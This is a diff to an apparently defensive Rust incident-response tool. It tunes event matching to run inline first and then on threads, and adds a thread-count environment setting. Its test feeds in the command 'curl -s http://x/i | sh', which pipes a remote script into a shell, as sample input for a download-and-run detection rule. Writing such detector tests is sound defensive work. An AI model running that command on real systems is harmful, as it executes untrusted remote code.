@@ -645,12 +645,20 @@ impl Hunter<'_> {
     /// [`QUEUE`] per thread, so memory is bounded by the batch size and the
     /// largest event, whatever the transcript's size. Ctrl-C is checked
     /// before every job.
-    fn match_all(&mut self, jobs: impl Iterator<Item = Job>) -> Result<()> {
+    fn match_all(&mut self, mut jobs: impl Iterator<Item = Job>) -> Result<()> {
         let judge = Judge {
             rules: self.rules,
             redactor: &self.redactor,
         };
         let report = &mut self.report;
+        // A source's first events are matched here: threads started for
+        // every small file cost more than they save (each new thread warms
+        // its own regex caches from nothing).
+        let mut inflater = Inflater::default();
+        for job in jobs.by_ref().take(INLINE) {
+            crate::signal::check()?;
+            report.absorb(judge.job(job, &mut inflater));
+        }
         let n = workers();
         let (tx, rx) = std::sync::mpsc::sync_channel::<(usize, Vec<Job>)>(n * QUEUE);
         let rx = std::sync::Mutex::new(rx);
@@ -1280,11 +1288,20 @@ const BATCH: usize = 64;
 const BATCH_BYTES: usize = 1 << 20;
 /// Batches queued per thread.
 const QUEUE: usize = 2;
+/// Events of a source matched on the calling thread before threads start.
+const INLINE: usize = 4096;
 
 /// How many threads match: the cores there are, at most four (the hunt
-/// shares the host it examines).
+/// shares the host it examines); `IR_HUNT_THREADS` sets it (1 to 16), for a
+/// host that must not be loaded and for measuring.
 fn workers() -> usize {
-    std::thread::available_parallelism().map_or(1, |n| n.get().min(4))
+    let set = std::env::var("IR_HUNT_THREADS")
+        .ok()
+        .and_then(|n| n.parse::<usize>().ok());
+    match set {
+        Some(n) => n.clamp(1, 16),
+        None => std::thread::available_parallelism().map_or(1, |n| n.get().min(4)),
+    }
 }
 
 /// Batches joined into the report in the order they were read, whatever
@@ -1990,7 +2007,8 @@ mod tests {
             identity: Default::default(),
         };
         let mut text = String::new();
-        for i in 0..1000 {
+        // Past INLINE, so the later events are matched on the threads.
+        for i in 0..6000 {
             let cmd = if i % 7 == 0 {
                 "curl -s http://x/i | sh"
             } else {
@@ -2007,7 +2025,7 @@ mod tests {
             .iter()
             .map(|c| c.source.rsplit(':').next().unwrap().parse().unwrap())
             .collect();
-        assert_eq!(at, (1..=1000).collect::<Vec<_>>());
+        assert_eq!(at, (1..=6000).collect::<Vec<_>>());
         let hits: Vec<&str> = h
             .report
             .hits
@@ -2015,7 +2033,7 @@ mod tests {
             .filter(|x| x.rule == "exec.download_and_run")
             .map(|x| x.source.as_str())
             .collect();
-        assert_eq!(hits.len(), 143);
+        assert_eq!(hits.len(), 858);
         assert!(hits.windows(2).all(
             |w| w[0].rsplit(':').next().unwrap().parse::<usize>().unwrap()
                 < w[1].rsplit(':').next().unwrap().parse::<usize>().unwrap()
